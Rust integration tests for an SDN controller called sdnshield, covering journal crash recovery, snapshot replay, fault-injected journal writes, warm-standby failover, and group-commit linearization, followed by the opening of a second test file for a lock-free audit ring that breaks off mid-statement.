//!   randomized snapshot/crash points, recovered ≡ live (proptest).
//! * **Warm-standby failover**: under concurrent submitters,
//!   `promote()` loses zero acknowledged commands and installs none twice.

use std::sync::{Arc, Mutex};

use proptest::prelude::*;

use sdnshield_controller::isolation::{ControllerConfig, ShieldedController, WarmStandby};
use sdnshield_controller::journal::{Journal, JournalFaults};
use sdnshield_controller::kernel::Kernel;
use sdnshield_controller::{ApiError, ApiResponse, KernelSnapshot};
use sdnshield_core::api::{ApiCall, ApiCallKind, AppId};
use sdnshield_core::lang::parse_manifest;
use sdnshield_core::perm::PermissionSet;
use sdnshield_netsim::network::Network;
use sdnshield_netsim::topology::builders;
use sdnshield_openflow::actions::ActionList;
use sdnshield_openflow::flow_match::FlowMatch;
use sdnshield_openflow::messages::{FlowMod, PacketOut};
use sdnshield_openflow::types::{BufferId, DatapathId, Ipv4, PortNo, Priority};

const PRIV: AppId = AppId(1);
const UNPRIV: AppId = AppId(2);
const EXTRA: AppId = AppId(3);

fn net() -> Network {
    Network::new(builders::linear(3), 1024)
}

fn priv_manifest() -> PermissionSet {
    parse_manifest(
        "PERM insert_flow\nPERM delete_flow\nPERM read_flow_table\n\
         PERM send_pkt_out\nPERM visible_topology\nPERM host_network",
    )
    .unwrap()
}

fn unpriv_manifest() -> PermissionSet {
    parse_manifest("PERM visible_topology").unwrap()
}

fn insert_call(app: AppId, tp_dst: u16, prio: u16, hard: u16, dpid: u64) -> ApiCall {
    ApiCall::new(
        app,
        ApiCallKind::InsertFlow {
            dpid: DatapathId(dpid),
            flow_mod: FlowMod::add(
                FlowMatch::default().with_tp_dst(tp_dst),
                Priority(prio),
                ActionList::output(PortNo(1)),
            )
            .with_hard_timeout(hard),
        },
    )
}

fn delete_call(tp_dst: u16) -> ApiCall {
    ApiCall::new(
        PRIV,
        ApiCallKind::DeleteFlow {
            dpid: DatapathId(1),
            flow_mod: FlowMod::add(
                FlowMatch::default().with_tp_dst(tp_dst),
                Priority(0),
                ActionList::drop(),
            ),
        },
    )
}

fn read_call(app: AppId) -> ApiCall {
    ApiCall::new(
        app,
        ApiCallKind::ReadFlowTable {
            dpid: DatapathId(1),
            query: FlowMatch::any(),
        },
    )
}

fn pkt_out_call(which: u8) -> ApiCall {
    ApiCall::new(
        PRIV,
        ApiCallKind::SendPacketOut {
            dpid: DatapathId(1),
            packet_out: PacketOut {
                buffer_id: BufferId::NO_BUFFER,
                in_port: PortNo(1),
                actions: ActionList::output(PortNo(2)),
                payload: bytes::Bytes::from(vec![which; 4]),
            },
        },
    )
}

/// One scripted command, applied through the kernel's journaled wrappers.
/// Each step submits exactly one command (one journal record), so journal
/// positions map 1:1 onto script positions.
#[derive(Debug, Clone)]
enum Step {
    Insert {
        denied: bool,
        tp: u16,
        prio: u16,
        hard: u16,
        dpid: u64,
    },
    Delete {
        tp: u16,
    },
    Read {
        denied: bool,
    },
    PacketOut {
        which: u8,
    },
    HostConnect,
    Advance {
        secs: u64,
    },
    FailLink,
    Subscribe {
        topic: u8,
    },
    RegisterExtra,
    DeregisterExtra,
}

fn arb_step() -> impl Strategy<Value = Step> {
    prop_oneof![
        (any::<bool>(), 1u16..64, 0u16..200, 0u16..4, 1u64..=3).prop_map(
            |(denied, tp, prio, hard, dpid)| Step::Insert {
                denied,
                tp,
                prio,
                hard,
                dpid
            }
        ),
        (1u16..64).prop_map(|tp| Step::Delete { tp }),
        any::<bool>().prop_map(|denied| Step::Read { denied }),
        (0u8..8).prop_map(|which| Step::PacketOut { which }),
        Just(Step::HostConnect),
        (1u64..4).prop_map(|secs| Step::Advance { secs }),
        Just(Step::FailLink),
        (0u8..3).prop_map(|topic| Step::Subscribe { topic }),
        Just(Step::RegisterExtra),
        Just(Step::DeregisterExtra),
    ]
}

fn apply_step(kernel: &Kernel, step: &Step) {
    match step {
        Step::Insert {
            denied,
            tp,
            prio,
            hard,
            dpid,
        } => {
            let app = if *denied { UNPRIV } else { PRIV };
            let _ = kernel.execute(&insert_call(app, *tp, *prio, *hard, *dpid));
        }
        Step::Delete { tp } => {
            let _ = kernel.execute(&delete_call(*tp));
        }
        Step::Read { denied } => {
            let app = if *denied { UNPRIV } else { PRIV };
            let _ = kernel.execute(&read_call(app));
        }
        Step::PacketOut { which } => {
            let _ = kernel.execute(&pkt_out_call(*which));
        }
        Step::HostConnect => {
            let _ = kernel.execute(&ApiCall::new(
                PRIV,
                ApiCallKind::HostConnect {
                    dst_ip: Ipv4::new(10, 0, 0, 1),
                    dst_port: 443,
                },
            ));
        }
        Step::Advance { secs } => {
            let _ = kernel.advance_clock(*secs);
        }
        Step::FailLink => {
            let _ = kernel.fail_link(DatapathId(1), DatapathId(2));
        }
        Step::Subscribe { topic } => {
            kernel.subscribe_topic(PRIV, &format!("topic-{topic}"));
        }
        Step::RegisterExtra => {
            let _ = kernel.register_app(EXTRA, "extra", &unpriv_manifest());
        }
        Step::DeregisterExtra => {
            let _ = kernel.deregister_app(EXTRA);
        }
    }
}

/// A live kernel with both base apps registered *through the journal*, so
/// the trace is self-contained (replaying it on a fresh kernel re-registers
/// them).
fn journaled_kernel() -> (Kernel, Arc<Journal>) {
    let kernel = Kernel::new(net(), true);
    let journal = Arc::new(Journal::in_memory());
    kernel.attach_journal(Arc::clone(&journal));
    kernel.register_app(PRIV, "priv", &priv_manifest()).unwrap();
    kernel
        .register_app(UNPRIV, "unpriv", &unpriv_manifest())
        .unwrap();
    (kernel, journal)
}

/// The unjournaled reference twin: same registrations, no journal.
fn reference_kernel() -> Kernel {
    let kernel = Kernel::new(net(), true);
    kernel.register_app(PRIV, "priv", &priv_manifest()).unwrap();
    kernel
        .register_app(UNPRIV, "unpriv", &unpriv_manifest())
        .unwrap();
    kernel
}

fn unique_journal_path(name: &str) -> std::path::PathBuf {
    let mut p = std::env::temp_dir();
    p.push(format!(
        "sdnshield-recovery-{}-{name}.journal",
        std::process::id()
    ));
    let _ = std::fs::remove_file(&p);
    p
}

/// A representative mixed script for the non-property tests.
fn demo_script() -> Vec<Step> {
    vec![
        Step::Insert {
            denied: false,
            tp: 80,
            prio: 100,
            hard: 0,
            dpid: 1,
        },
        Step::Insert {
            denied: false,
            tp: 443,
            prio: 50,
            hard: 2,
            dpid: 2,
        },
        Step::Insert {
            denied: true,
            tp: 22,
            prio: 10,
            hard: 0,
            dpid: 1,
        },
        Step::Subscribe { topic: 1 },
        Step::HostConnect,
        Step::PacketOut { which: 3 },
        Step::Advance { secs: 3 },
        Step::FailLink,
        Step::Delete { tp: 80 },
        Step::RegisterExtra,
    ]
}

#[test]
fn snapshot_plus_suffix_replay_matches_live() {
    let (live, journal) = journaled_kernel();
    let script = demo_script();
    let mut snap: Option<KernelSnapshot> = None;
    for (i, step) in script.iter().enumerate() {
        if i == 4 {
            snap = Some(live.snapshot());
        }
        apply_step(&live, step);
    }
    let snap = snap.unwrap();
    let recovered = Kernel::recover(net(), &snap, &journal);
    assert!(
        recovered.snapshot().state_eq(&live.snapshot()),
        "snapshot + journal suffix must reproduce the live kernel"
    );
    assert_eq!(recovered.last_applied(), journal.last_seq());
}

#[test]
fn file_backed_journal_survives_restart_roundtrip() {
    let path = unique_journal_path("roundtrip");
    let empty_snap = Kernel::new(net(), true).snapshot();
    let live_digest;
    {
        let live = Kernel::new(net(), true);
        live.attach_journal(Arc::new(Journal::open(&path).unwrap()));
        live.register_app(PRIV, "priv", &priv_manifest()).unwrap();
        live.register_app(UNPRIV, "unpriv", &unpriv_manifest())
            .unwrap();
        for step in demo_script() {
            apply_step(&live, &step);
        }
        live_digest = live.snapshot();
        // Process "crashes" here: journal file closed by drop, no shutdown
        // handshake of any kind.
    }
    let reopened = Arc::new(Journal::open(&path).unwrap());
    assert_eq!(reopened.len(), 12, "2 registrations + 10 script commands");
    let recovered = Kernel::recover(net(), &empty_snap, &reopened);
    assert!(
        recovered.snapshot().state_eq(&live_digest),
        "recovery from the on-disk journal must reproduce the crashed kernel"
    );
    // The recovered kernel keeps journaling where the crashed one stopped.
    recovered.attach_journal(Arc::clone(&reopened));
    let before = reopened.last_seq();
    let _ = recovered.execute(&insert_call(PRIV, 999, 1, 0, 1));
    assert_eq!(reopened.last_seq(), before + 1);
    let _ = std::fs::remove_file(&path);
}

#[test]
fn replay_trace_is_deterministic() {
    let (live, journal) = journaled_kernel();
    for step in demo_script() {
        apply_step(&live, &step);
    }
    let trace = journal.trace();
    let first = Kernel::replay_trace(net(), true, &trace);
    let second = Kernel::replay_trace(net(), true, &trace);
    assert!(
        first.snapshot().state_eq(&second.snapshot()),
        "two replays of one trace must agree"
    );
    assert!(
        first.snapshot().state_eq(&live.snapshot()),
        "replaying the full trace must reproduce the live kernel"
    );
}

/// Drives `total` inserts against a file-journaled kernel with `faults`
/// armed, "crashes", reopens the journal, and asserts the recovered kernel
/// equals a reference kernel that applied exactly the surviving prefix —
/// the never-half-applies contract.
fn fault_roundtrip(name: &str, faults: JournalFaults, total: u16) -> (usize, Kernel, Arc<Journal>) {
    let path = unique_journal_path(name);
    let empty_snap = Kernel::new(net(), true).snapshot();
    {
        let live = Kernel::new(net(), true);
        let journal = Arc::new(Journal::open(&path).unwrap());
        journal.arm_faults(faults);
        live.attach_journal(Arc::clone(&journal));
        live.register_app(PRIV, "priv", &priv_manifest()).unwrap();
        for tp in 1..=total {
            let _ = live.execute(&insert_call(PRIV, tp, 100, 0, 1));
        }
    }
    let reopened = Arc::new(Journal::open(&path).unwrap());
    let survivors = reopened.len();
    let recovered = Kernel::recover(net(), &empty_snap, &reopened);
    // Reference: a kernel that lived exactly the surviving prefix.
    // Record 1 is the registration; records 2..=survivors are inserts.
    let reference = Kernel::new(net(), true);
    if survivors >= 1 {
        reference
            .register_app(PRIV, "priv", &priv_manifest())
            .unwrap();
    }
    for tp in 1..survivors as u16 {
        let _ = reference.execute(&insert_call(PRIV, tp, 100, 0, 1));
    }
    assert!(
        recovered.snapshot().state_eq(&reference.snapshot()),
        "{name}: recovered state must equal the surviving journal prefix, \
         nothing more, nothing less"
    );
    let _ = std::fs::remove_file(&path);
    (survivors, recovered, reopened)
}

#[test]
fn torn_journal_write_truncates_cleanly() {
    // Registration is record 1 (a large frame); tearing at byte 600 lands
    // inside one of the insert frames that follow.
    let faults = JournalFaults {
        torn_write_at_byte: Some(600),
        ..JournalFaults::default()
    };
    let (survivors, recovered, _) = fault_roundtrip("torn", faults, 12);
    assert!(
        survivors > 1 && survivors < 13,
        "the tear must land mid-stream, got {survivors} survivors"
    );
    assert_eq!(recovered.flow_count(DatapathId(1)), survivors - 1);
}

#[test]
fn corrupt_crc_truncates_at_the_corrupt_record() {
    let faults = JournalFaults {
        corrupt_crc_on_record: Some(5),
        ..JournalFaults::default()
    };
    let (survivors, recovered, _) = fault_roundtrip("crc", faults, 8);
    // Records 1..=4 verify; record 5 fails its CRC and truncates the rest.
    assert_eq!(survivors, 4);
    assert_eq!(recovered.flow_count(DatapathId(1)), 3);
}

#[test]
fn crash_between_apply_and_append_loses_only_the_unjournaled_suffix() {
    let faults = JournalFaults {
        crash_before_append_on_record: Some(5),
        ..JournalFaults::default()
    };
    let (survivors, recovered, reopened) = fault_roundtrip("window", faults, 8);
    // The command with seq 5 was applied live but never journaled; the
    // journal holds exactly the prefix before the crash window.
    assert_eq!(survivors, 4);
    assert_eq!(recovered.flow_count(DatapathId(1)), 3);
    assert_eq!(recovered.last_applied(), reopened.last_seq());
}

#[test]
fn corrupt_crc_does_not_disturb_the_in_memory_tail() {
    // The CRC corruption models silent media damage: the writing process
    // survives, so its in-memory journal (the warm-standby feed) keeps the
    // full record stream even though a disk reopen truncates.
    let (live, journal) = journaled_kernel();
    journal.arm_faults(JournalFaults {
        corrupt_crc_on_record: Some(4),
        ..JournalFaults::default()
    });
    for tp in 1..=5u16 {
        let _ = live.execute(&insert_call(PRIV, tp, 100, 0, 1));
    }
    assert!(!journal.is_dead());
    assert_eq!(journal.len(), 7, "2 registrations + 5 inserts all retained");
    let standby = Kernel::recover(net(), &Kernel::new(net(), true).snapshot(), &journal);
    assert!(standby.snapshot().state_eq(&live.snapshot()));
}

#[test]
fn replayed_commands_are_retagged_and_cursors_survive() {
    let (live, journal) = journaled_kernel();
    let snap = live.snapshot(); // checkpoint right after registration
    for tp in 1..=3u16 {
        let _ = live.execute(&insert_call(PRIV, tp, 100, 0, 1));
    }
    let _ = live.execute(&insert_call(UNPRIV, 9, 1, 0, 1)); // denied, audited
                                                            // A forensic consumer has read everything up to the crash.
    let cursor = live
        .audit_records_since(0)
        .last()
        .map(|r| r.seq)
        .unwrap_or(0);
    assert!(cursor > 0);

    let recovered = Kernel::recover(net(), &snap, &journal);
    let replayed = recovered.audit_records_since(0);
    assert!(
        !replayed.is_empty(),
        "replaying the suffix must re-derive audit records"
    );
    assert!(
        replayed.iter().all(|r| r.operation.starts_with("replay:")),
        "every post-recovery record must carry the replay: tag, got {:?}",
        replayed
            .iter()
            .map(|r| r.operation.clone())
            .collect::<Vec<_>>()
    );
    // Cursor survival: numbering extends the pre-crash sequence densely —
    // the consumer's records_since(cursor) resumes at cursor + 1 and never
    // re-serves a pre-crash record under a new number.
    let resumed = recovered.audit_records_since(cursor);
    assert_eq!(resumed.first().map(|r| r.seq), Some(cursor + 1));
    assert_eq!(
        resumed.len(),
        replayed.len(),
        "no replayed record may be numbered at or below the consumed cursor"
    );
    // The denial replayed as a denial: same decision, replay-tagged.
    assert!(replayed
        .iter()
        .any(|r| r.app == UNPRIV && r.operation == "replay:insert_flow"));
}

#[test]
fn denied_commands_replay_to_identical_tracker_epochs() {
    let (live, journal) = journaled_kernel();
    // A mix where most commands are denials: the epoch accounting of
    // denied commands must replay exactly.
    for tp in 1..=4u16 {
        let _ = live.execute(&insert_call(UNPRIV, tp, 1, 0, 1));
    }
    let _ = live.execute(&insert_call(PRIV, 80, 100, 0, 1));
    let _ = live.execute(&read_call(UNPRIV));
    let live_snap = live.snapshot();
    let replayed = Kernel::replay_trace(net(), true, &journal.trace());
    let replay_snap = replayed.snapshot();
    assert_eq!(live_snap.tracker.epoch, replay_snap.tracker.epoch);
    assert!(replay_snap.state_eq(&live_snap));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// The differential-recovery property (satellite of DESIGN.md §12):
    /// for arbitrary command traces, an arbitrary snapshot point, and an
    /// arbitrary crash point at or after it, the recovered kernel is
    /// state-equal to a live kernel that executed exactly the journaled
    /// prefix — registry, tracker epochs, flow tables, subscriptions,
    /// switch counters, host state.
    #[test]
    fn recovered_equals_live_at_every_crash_point(
        script in proptest::collection::vec(arb_step(), 1..14),
        snap_sel in any::<u16>(),
        crash_sel in any::<u16>(),
    ) {
        let (live, journal) = journaled_kernel();
        // Registrations occupy records 1..=2; script step i becomes
        // record 3 + i.
        let snap_at = snap_sel as usize % (script.len() + 1);
        let mut snap: Option<KernelSnapshot> = None;
        for (i, step) in script.iter().enumerate() {
            if i == snap_at {
                snap = Some(live.snapshot());
            }
            apply_step(&live, step);
        }
        let snap = snap.unwrap_or_else(|| live.snapshot());

        // Crash somewhere at or after the snapshot: the journal survives
        // only up to `crash` records.
        let trace = journal.trace();
        let min_keep = snap.last_seq as usize;
        let crash = min_keep + (crash_sel as usize % (trace.len() - min_keep + 1));
        let truncated = Journal::from_trace(trace[..crash].to_vec());

        let recovered = Kernel::recover(net(), &snap, &truncated);

        // Reference: a kernel that lived exactly those `crash` records —
        // 2 registrations + the first (crash - 2) script steps.
        let reference = reference_kernel();
        for step in &script[..crash.saturating_sub(2)] {
            apply_step(&reference, step);
        }
        prop_assert!(
            recovered.snapshot().state_eq(&reference.snapshot()),
            "snapshot at step {snap_at}, crash at record {crash}: \
             recovered kernel diverged from the live reference"
        );
    }
}

#[test]
fn standby_tails_a_live_primary_and_converges() {
    let (primary, journal) = journaled_kernel();
    let standby = WarmStandby::new(net(), &primary.snapshot(), Arc::clone(&journal));
    for tp in 1..=4u16 {
        let _ = primary.execute(&insert_call(PRIV, tp, 100, 0, 1));
    }
    assert_eq!(standby.catch_up(), 4);
    for tp in 5..=6u16 {
        let _ = primary.execute(&insert_call(PRIV, tp, 100, 0, 1));
    }
    assert_eq!(standby.catch_up(), 2);
    assert_eq!(standby.catch_up(), 0, "catch-up is idempotent");
    assert!(standby.kernel().snapshot().state_eq(&primary.snapshot()));
}

#[test]
fn promote_loses_no_acknowledged_commands_under_concurrent_submitters() {
    const THREADS: u64 = 4;
    const PER_THREAD: u64 = 150;

    let c = ShieldedController::new(Network::new(builders::linear(2), 16_384), 2);
    let journal = Arc::new(Journal::in_memory());
    c.attach_journal(Arc::clone(&journal));
    c.kernel()
        .register_app(PRIV, "driver", &priv_manifest())
        .unwrap();

    let standby = Arc::new(WarmStandby::new(
        Network::new(builders::linear(2), 16_384),
        &c.snapshot(),
        Arc::clone(&journal),
    ));

    let acked: Arc<Mutex<Vec<u16>>> = Arc::new(Mutex::new(Vec::new()));
    let cell = c.kernel_cell();
    let submitters: Vec<_> = (0..THREADS)
        .map(|t| {
            let cell = Arc::clone(&cell);
            let acked = Arc::clone(&acked);
            std::thread::spawn(move || {
                for i in 0..PER_THREAD {
                    let tp = (t * 1000 + i + 1) as u16;
                    loop {
                        let kernel = cell.load();
                        match kernel.execute(&insert_call(PRIV, tp, 100, 0, 1)).0 {
                            Ok(_) => {
                                acked.lock().unwrap().push(tp);
                                break;
                            }
                            // Raced the seal: the old primary refused the
                            // command un-applied; retry on the next load,
                            // which observes the promoted kernel.
                            Err(ApiError::Shutdown) => std::thread::yield_now(),
                            Err(e) => panic!("unexpected error: {e:?}"),
                        }
                    }
                }
            })
        })
        .collect();

    // Tail while the storm is in flight, then fail over mid-storm.
    for _ in 0..5 {
        standby.catch_up();
        std::thread::yield_now();
    }
    let promoted = c.promote(&standby);
    assert!(promoted.is_sealed() || !promoted.is_sealed()); // reachable
    for t in submitters {
        t.join().unwrap();
    }

    let acked = acked.lock().unwrap().clone();
    assert_eq!(acked.len() as u64, THREADS * PER_THREAD);
    let final_kernel = c.kernel();
    assert!(
        Arc::ptr_eq(&final_kernel, &promoted),
        "the cell must serve the promoted kernel"
    );
    // Every acknowledged insert is present exactly once — nothing lost by
    // the failover, nothing double-installed by idempotent replay.
    for tp in &acked {
        let (result, _) = final_kernel.execute(&ApiCall::new(
            PRIV,
            ApiCallKind::ReadFlowTable {
                dpid: DatapathId(1),
                query: FlowMatch::default().with_tp_dst(*tp),
            },
        ));
        match result {
            Ok(ApiResponse::FlowEntries(entries)) => assert_eq!(
                entries.len(),
                1,
                "acknowledged flow tp_dst={tp} must survive failover exactly once"
            ),
            other => panic!("read failed for tp_dst={tp}: {other:?}"),
        }
    }
    // The promoted kernel took over the journal: commands submitted after
    // failover kept appending to the same log.
    assert_eq!(journal.last_seq(), final_kernel.last_applied());
    c.shutdown();
}

// ---------------------------------------------------------------------------
// Group-commit write pipeline (DESIGN.md §16): the flat-combining submit
// path with single-writer switch lanes must keep every recovery guarantee
// the serial path had — the journal a concurrent storm leaves behind is a
// linearization of that storm, and replaying it reproduces the live kernel.
// ---------------------------------------------------------------------------

/// Asserts the journal carries dense sequence numbers 1..=len — batched
/// group appends must be indistinguishable from N serial appends.
fn assert_dense_seqs(journal: &Journal) {
    let records = journal.records_since(0);
    for (i, r) in records.iter().enumerate() {
        assert_eq!(r.seq, i as u64 + 1, "journal seqs dense and gap-free");
    }
}

/// 8 submitters storm a journaled, lane-enabled kernel until the combiner
/// has demonstrably exercised the lane pool (multi-entry drains are
/// scheduling-dependent, so the storm repeats — bounded — until one lands).
/// Whatever interleaving the scheduler produced, the journal must be a
/// linearization: dense seqs, one record per acknowledged command, and a
/// replay that is state-equal to the live kernel.
#[test]
fn group_commit_journal_is_a_linearization_of_the_storm() {
    const THREADS: u64 = 8;
    const PER_THREAD: u64 = 250;
    const MAX_ROUNDS: u64 = 5;

    let (live, journal) = journaled_kernel();
    live.set_switch_lanes(2, false);

    let mut rounds = 0;
    while rounds < MAX_ROUNDS {
        std::thread::scope(|s| {
            for t in 0..THREADS {
                let live = &live;
                s.spawn(move || {
                    for i in 0..PER_THREAD {
                        let tp = ((rounds * THREADS + t) * PER_THREAD + i + 1) as u16;
                        let dpid = t % 3 + 1;
                        live.execute(&insert_call(PRIV, tp, 100, 0, dpid))
                            .0
                            .expect("storm insert acked");
                    }
                });
            }
        });
        rounds += 1;
        if live.combiner_stats().lane_runs > 0 {
            break;
        }
    }

    let stats = live.combiner_stats();
    assert!(
        stats.lane_runs > 0,
        "no multi-entry drain engaged the lane pool in {MAX_ROUNDS} rounds \
         of {} contended submits each",
        THREADS * PER_THREAD
    );
    // 2 journaled registrations + every acknowledged insert, exactly once.
    let total = 2 + rounds * THREADS * PER_THREAD;
    assert_eq!(journal.len() as u64, total, "one record per command");
    assert_eq!(
        stats.submitted, total,
        "every command routed through submit"
    );
    assert_dense_seqs(&journal);

    // The journal is a linearization: replaying it serially reproduces the
    // concurrent kernel, flow for flow.
    let empty_snap = Kernel::new(net(), true).snapshot();
    let recovered = Kernel::recover(net(), &empty_snap, &journal);
    assert!(
        recovered.snapshot().state_eq(&live.snapshot()),
        "replay of the batch-written journal must equal the live kernel"
    );
    let installed: usize = (1u64..=3)
        .map(|d| recovered.flow_count(DatapathId(d)))
        .sum();
    assert_eq!(installed as u64, rounds * THREADS * PER_THREAD);
}

/// One concurrently-issued op for the differential proptest below.
fn arb_storm_op() -> impl Strategy<Value = (u8, u16, u64)> {
    (0u8..4, 1u16..48, 1u64..=3)
}

fn run_storm_op(kernel: &Kernel, thread: usize, op: (u8, u16, u64)) {
    let (kind, tp, dpid) = op;
    // Per-thread tp ranges keep insert identities disjoint across threads;
    // deletes target the same range, so they race only with the thread's
    // own inserts (any interleaving is a valid linearization either way).
    let tp = (thread * 1000) as u16 + tp;
    match kind {
        0 => {
            let _ = kernel.execute(&insert_call(PRIV, tp, 100, 0, dpid));
        }
        1 => {
            let _ = kernel.execute(&delete_call(tp));
        }
        2 => {
            let _ = kernel.execute(&read_call(PRIV));
        }
        _ => {
            let _ = kernel.execute(&pkt_out_call(tp as u8));
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]

    /// Differential group-commit property: for arbitrary concurrent command
    /// traces — four threads, each with its own generated op list, lanes
    /// forced on — the batch-framed journal the storm leaves behind replays
    /// to a kernel state-equal to the live one, with a dense record per
    /// submitted command. Whatever order the combiner chose, it committed,
    /// journaled, and acknowledged the *same* history.
    #[test]
    fn concurrent_group_commit_replays_to_live_state(
        traces in proptest::collection::vec(
            proptest::collection::vec(arb_storm_op(), 1..24),
            4..5,
        ),
    ) {
        let (live, journal) = journaled_kernel();
        live.set_switch_lanes(2, false);
        let total_ops: usize = traces.iter().map(Vec::len).sum();
        std::thread::scope(|s| {
            for (t, trace) in traces.iter().enumerate() {
                let live = &live;
                s.spawn(move || {
                    for op in trace {
                        run_storm_op(live, t, *op);
                    }
                });
            }
        });
        prop_assert_eq!(journal.len(), 2 + total_ops, "one record per op");
        assert_dense_seqs(&journal);
        let empty_snap = Kernel::new(net(), true).snapshot();
        let recovered = Kernel::recover(net(), &empty_snap, &journal);
        prop_assert!(
            recovered.snapshot().state_eq(&live.snapshot()),
            "batched journal must replay to the live kernel's state"
        );
    }
}

/// The promote-mid-storm ack guarantee, re-proved with the group-commit
/// pipeline fully enabled on both the primary and the promoted kernel
/// (`switch_lanes` in the controller config): sealing the old primary makes
/// its combiner refuse whole batches *after* fulfilling every parked
/// submitter, so no acknowledged command can be lost in the failover.
#[test]
fn promote_with_lanes_loses_no_acknowledged_commands() {
    const THREADS: u64 = 4;
    const PER_THREAD: u64 = 100;

    let c = ShieldedController::new_with_config(
        Network::new(builders::linear(2), 16_384),
        ControllerConfig {
            num_deputies: 2,
            switch_lanes: 2,
            ..ControllerConfig::default()
        },
    );
    let journal = Arc::new(Journal::in_memory());
    c.attach_journal(Arc::clone(&journal));
    c.kernel()
        .register_app(PRIV, "driver", &priv_manifest())
        .unwrap();

    let standby = Arc::new(WarmStandby::new(
        Network::new(builders::linear(2), 16_384),
        &c.snapshot(),
        Arc::clone(&journal),
    ));

    let acked: Arc<Mutex<Vec<u16>>> = Arc::new(Mutex::new(Vec::new()));
    let cell = c.kernel_cell();
    let submitters: Vec<_> = (0..THREADS)
        .map(|t| {
            let cell = Arc::clone(&cell);
            let acked = Arc::clone(&acked);
            std::thread::spawn(move || {
                for i in 0..PER_THREAD {
                    let tp = (t * 1000 + i + 1) as u16;
                    loop {
                        let kernel = cell.load();
                        match kernel.execute(&insert_call(PRIV, tp, 100, 0, 1)).0 {
                            Ok(_) => {
                                acked.lock().unwrap().push(tp);
                                break;
                            }
                            Err(ApiError::Shutdown) => std::thread::yield_now(),
                            Err(e) => panic!("unexpected error: {e:?}"),
                        }
                    }
                }
            })
        })
        .collect();

    for _ in 0..3 {
        standby.catch_up();
        std::thread::yield_now();
    }
    let promoted = c.promote(&standby);
    for t in submitters {
        t.join().unwrap();
    }

    let acked = acked.lock().unwrap().clone();
    assert_eq!(acked.len() as u64, THREADS * PER_THREAD);
    let final_kernel = c.kernel();
    assert!(Arc::ptr_eq(&final_kernel, &promoted));
    for tp in &acked {
        let (result, _) = final_kernel.execute(&ApiCall::new(
            PRIV,
            ApiCallKind::ReadFlowTable {
                dpid: DatapathId(1),
                query: FlowMatch::default().with_tp_dst(*tp),
            },
        ));
        match result {
            Ok(ApiResponse::FlowEntries(entries)) => assert_eq!(
                entries.len(),
                1,
                "acknowledged flow tp_dst={tp} must survive failover exactly once"
            ),
            other => panic!("read failed for tp_dst={tp}: {other:?}"),
        }
    }
    assert_eq!(journal.last_seq(), final_kernel.last_applied());
    assert_dense_seqs(&journal);
    c.shutdown();
}
