//! Integration proofs for the lock-free audit ring (DESIGN.md §13): records
//! pushed by concurrent producers are handed off to the segmented store with
//! **zero loss** and **gap-free drain-time sequence numbers**, whether the
//! drain work is done by the background `audit-drain` thread, by readers
//! syncing before a query, or across a warm-standby `promote()` that seals
//! the old primary mid-storm.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use sdnshield_controller::audit::{AuditLog, AuditOutcome};
use sdnshield_controller::isolation::{ShieldedController, WarmStandby};
use sdnshield_controller::journal::Journal;
use sdnshield_controller::kernel::Kernel;
use sdnshield_controller::{ApiError, ApiResponse};
use sdnshield_core::api::{ApiCall, ApiCallKind, AppId};
use sdnshield_core::lang::parse_manifest;
use sdnshield_core::perm::PermissionSet;
use sdnshield_core::token::PermissionToken;
use sdnshield_netsim::network::Network;
use sdnshield_netsim::topology::builders;
use sdnshield_openflow::actions::ActionList;
use sdnshield_openflow::flow_match::FlowMatch;
use sdnshield_openflow::messages::FlowMod;
use sdnshield_openflow::types::{DatapathId, PortNo, Priority};

const PRIV: AppId = AppId(1);

fn priv_manifest() -> PermissionSet {
    parse_manifest("PERM insert_flow\nPERM delete_flow\nPERM read_flow_table\nPERM read_statistics")
        .unwrap()
}

fn insert_call(app: AppId, tp_dst: u16, dpid: u64) -> ApiCall {
    ApiCall::new(
        app,
        ApiCallKind::InsertFlow {
            dpid: DatapathId(dpid),
            flow_mod: FlowMod::add(
                FlowMatch::default().with_tp_dst(tp_dst),
                Priority(100),
                ActionList::output(PortNo(1)),
            ),
        },
    )
}

fn read_call(app: AppId, dpid: u64) -> ApiCall {
    ApiCall::new(
        app,
        ApiCallKind::ReadFlowTable {
            dpid: DatapathId(dpid),
            query: FlowMatch::any(),
        },
    )
}

/// Assert `records` carries strictly consecutive sequence numbers — the
/// drain-time assignment can never leave a hole or a duplicate.
fn assert_contiguous(records: &[sdnshield_controller::audit::AuditRecord], what: &str) {
    for pair in records.windows(2) {
        assert_eq!(
            pair[1].seq,
            pair[0].seq + 1,
            "{what}: audit seqs must be gap-free, got {} then {}",
            pair[0].seq,
            pair[1].seq
        );
    }
}

/// With **no reader in the loop**, the background drainer alone moves every
/// claimed record from the ring into the segmented store: producers push,
/// then we wait (bounded) for `seen()` to reach the claim count without ever
/// touching a sync-first reader, and only then verify the store contents.
#[test]
fn background_drainer_hands_off_every_record() {
    const THREADS: u64 = 4;
    const PER_THREAD: u64 = 500;

    let log = Arc::new(AuditLog::new(65_536));
    std::thread::scope(|s| {
        for t in 0..THREADS {
            let log = Arc::clone(&log);
            s.spawn(move || {
                for i in 0..PER_THREAD {
                    log.record(
                        AppId(t as u16 + 1),
                        &format!("op-{t}-{i}"),
                        PermissionToken::InsertFlow,
                        AuditOutcome::Allowed,
                    );
                }
            });
        }
    });

    // `seen()` syncs, so poll the watermark the drainer is advancing via a
    // deadline rather than busy-reading: the drainer parks at most ~1ms.
    let total = THREADS * PER_THREAD;
    let deadline = Instant::now() + Duration::from_secs(5);
    while log.seen() < total {
        assert!(
            Instant::now() < deadline,
            "drainer stalled at {} of {total}",
            log.seen()
        );
        std::thread::sleep(Duration::from_millis(1));
    }

    let records = log.records();
    assert_eq!(records.len() as u64, total, "every claimed record stored");
    assert_contiguous(&records, "background drain");
    assert_eq!(records.first().map(|r| r.seq), Some(1));
    assert_eq!(log.shed(), 0, "no overload shedding at this rate");
    assert_eq!(log.dropped(), 0, "no capacity eviction below 64k records");
}

/// Concurrent writers through the full kernel path while reader threads pump
/// `audit_records_since` as an exactly-once cursor: the cursors observe a
/// gap-free, duplicate-free stream, and after the storm the log holds exactly
/// one record per executed call.
#[test]
fn concurrent_cursors_observe_every_record_exactly_once() {
    const THREADS: usize = 4;
    const PER_THREAD: usize = 300;

    let kernel = Arc::new(Kernel::new(
        Network::new(builders::linear(THREADS + 1), 16_384),
        true,
    ));
    let apps: Vec<AppId> = (1..=THREADS as u16).map(AppId).collect();
    for app in &apps {
        kernel
